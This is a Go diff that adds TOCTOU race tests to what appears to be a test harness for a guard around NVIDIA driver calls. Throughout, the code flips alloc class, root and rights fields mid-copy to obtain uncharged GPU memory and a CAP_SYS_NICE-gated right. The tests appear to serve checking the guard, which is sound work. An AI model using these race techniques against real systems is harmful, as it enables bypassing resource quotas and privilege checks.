@@ -20,7 +20,30 @@ const stolen = 64 * quota.MiB
 // under way one thread turns its class into device memory, and another puts a file that has a client in the descriptor's
 // place. Some attempts succeed for a moment; the guard must find each out and free the clients of the process. The second that goes
 // elsewhere, whatever became of it there, ends the process.
-func hostileTOCTOURoot(o hostileOptions) error {
+func hostileTOCTOURoot(o hostileOptions) error { return stealAll(o, (*client).swapRoots) }
+
+// hostileTOCTOURootFile is the same on the client's own file: only the memory of the call is swapped, and all else about it is true.
+func hostileTOCTOURootFile(o hostileOptions) error {
+	return stealAll(o, func(c *client, out []byte, class uint32) *rootSwap { return c.swapHere(out, class, nil) })
+}
+
+// hostileTOCTOURootRights asks for rights on the client that nobody like it gets, so that the driver refuses what the guard has seen, and
+// takes what has become of it.
+func hostileTOCTOURootRights(o hostileOptions) error {
+	rights, err := pages(rm.RightsSize)
+	if err != nil {
+		return err
+	}
+	return stealAll(o, func(c *client, out []byte, class uint32) *rootSwap { return c.swapHere(out, class, rights) })
+}
+
+// rightNice is RS_ACCESS_NICE (rs_access.h), for which the driver wants CAP_SYS_NICE.
+const rightNice = 1 << 1
+
+// rootSwapper begins to turn root allocs into another class below a client.
+type rootSwapper func(c *client, out []byte, class uint32) *rootSwap
+
+func stealAll(o hostileOptions, begin rootSwapper) error {
 	mem, err := pages(8192)
 	if err != nil {
 		return err
@@ -29,7 +52,7 @@ func hostileTOCTOURoot(o hostileOptions) error {
 	tries, most, won := 0, min(o.tries, 20000), 0
 	deadline := time.Now().Add(raceTime)
 	for tries < most && won < 5 && time.Now().Before(deadline) {
-		n, got, err := stealByRoot(out, params, most-tries, deadline)
+		n, got, err := stealByRoot(begin, out, params, most-tries, deadline)
 		if err != nil {
 			return err
 		}
@@ -48,13 +71,13 @@ func hostileTOCTOURoot(o hostileOptions) error {
 }
 
 // stealByRoot tries with one client, until it got memory that was not charged and lost the client for it.
-func stealByRoot(out, params []byte, tries int, deadline time.Time) (n int, got bool, err error) {
+func stealByRoot(begin rootSwapper, out, params []byte, tries int, deadline time.Time) (n int, got bool, err error) {
 	c, _, before, err := openCounted(patient)
 	if err != nil {
 		return 0, false, err
 	}
 	defer c.close()
-	swap := c.swapRoots(out, classMemory)
+	swap := begin(c, out, classMemory)
 	defer swap.end()
 	for ; n < tries && time.Now().Before(deadline); n++ {
 		h, f, err := swap.try(func(h uint32) { c.fillMemoryAlloc(out, params, h, uint64(stolen)) })
@@ -62,7 +85,9 @@ func stealByRoot(out, params []byte, tries int, deadline time.Time) (n int, got 
 			return n, false, err
 		}
 		lost, uncharged := c.outcome(h, before)
-		syscall.Close(f)
+		if f >= 0 {
+			syscall.Close(f)
+		}
 		if lost {
 			return n + 1, true, nil
 		}
@@ -134,15 +159,17 @@ func hostileTOCTOURootGroup(o hostileOptions) error {
 // controlGroupInfo is NVA06C_CTRL_CMD_GET_INFO.
 const controlGroupInfo = 0xa06c0106
 
-// rootSwap makes root allocs on new files, while a thread turns their class into another and one puts a client's file in the place of
-// the new one's.
+// rootSwap makes root allocs, while a thread turns their class into another. They are on new files, and a thread puts a client's file in
+// the place of the new one's; or here, on the client's.
 type rootSwap struct {
-	c     *client
-	out   []byte
-	fresh atomic.Int64 // the new file, -1: none
-	stop  atomic.Bool
-	done  chan struct{}
-	flip  func()
+	c      *client
+	out    []byte
+	here   bool
+	rights []byte       // asked for of the client, and not of what is made in its place; nil: none
+	fresh  atomic.Int64 // the new file, -1: none
+	stop   atomic.Bool
+	done   chan struct{}
+	flip   func()
 }
 
 // swapSlot is the descriptor that the files change places at.
@@ -161,18 +188,31 @@ func (c *client) swapRoots(out []byte, class uint32) *rootSwap {
 			}
 		}
 	}()
-	s.flip = flipBoth(out, c.handle, class)
+	s.flip = flipBoth(out, c.handle, class, new(uint32))
 	return s
 }
 
-// flipBoth turns a root alloc into another one below a client, and back, until the returned function is called.
-func flipBoth(out []byte, client, class uint32) func() {
+// swapHere is swapRoots with the client's file alone.
+func (c *client) swapHere(out []byte, class uint32, rights []byte) *rootSwap {
+	s := &rootSwap{c: c, out: out, here: true, rights: rights, done: make(chan struct{})}
+	close(s.done)
+	mask := new(uint32)
+	if rights != nil {
+		mask = word(rights, 0)
+	}
+	s.flip = flipBoth(out, c.handle, class, mask)
+	return s
+}
+
+// flipBoth turns a root alloc, with rights, into another one below a client, without, and back, until the returned function is called.
+func flipBoth(out []byte, client, class uint32, rights *uint32) func() {
 	var stop atomic.Bool
 	done := make(chan struct{})
 	root, what := word(out, rm.AllocRoot), word(out, rm.AllocClass)
 	go func() {
 		defer close(done)
 		for !stop.Load() {
+			atomic.StoreUint32(rights, rightNice)
 			atomic.StoreUint32(root, 0)
 			atomic.StoreUint32(what, classRootClient)
 			for range 200 { // for as long as the guard's copy takes, more or less
@@ -180,6 +220,7 @@ func flipBoth(out []byte, client, class uint32) func() {
 					break
 				}
 			}
+			atomic.StoreUint32(rights, 0)
 			atomic.StoreUint32(root, client)
 			atomic.StoreUint32(what, class)
 			for range 200 {
@@ -195,8 +236,11 @@ func flipBoth(out []byte, client, class uint32) func() {
 	}
 }
 
-// try makes one, and returns the handle that it had for what it may have become, and the new file.
+// try makes one, and returns the handle that it had for what it may have become, and the new file; -1: there is none.
 func (s *rootSwap) try(fill func(h uint32)) (h uint32, f int, err error) {
+	if s.here {
+		return s.tryHere(fill), -1, nil
+	}
 	if f, err = syscall.Open("/dev/nvidiactl", syscall.O_RDWR|syscall.O_CLOEXEC, 0); err != nil {
 		return 0, -1, err
 	}
@@ -209,11 +253,27 @@ func (s *rootSwap) try(fill func(h uint32)) (h uint32, f int, err error) {
 	return h, f, nil
 }
 
+// tryHere makes one on the client's file, and frees the client that came of it.
+func (s *rootSwap) tryHere(fill func(h uint32)) (h uint32) {
+	h = s.c.newHandle()
+	fill(h)
+	if s.rights != nil {
+		putPtr(s.out, rm.AllocRights, s.rights)
+	}
+	patientEscape(s.c.fd, s.out)
+	if made := rm.U32(s.out, rm.AllocObject); made != h {
+		_ = (&client{call: patient, fd: s.c.fd, handle: made}).free(made)
+	}
+	return h
+}
+
 func (s *rootSwap) end() {
 	s.stop.Store(true)
 	<-s.done
 	s.flip()
-	_ = syscall.Close(swapSlot)
+	if !s.here {
+		_ = syscall.Close(swapSlot)
+	}
 }
 
 func patientEscape(fd int, out []byte) {
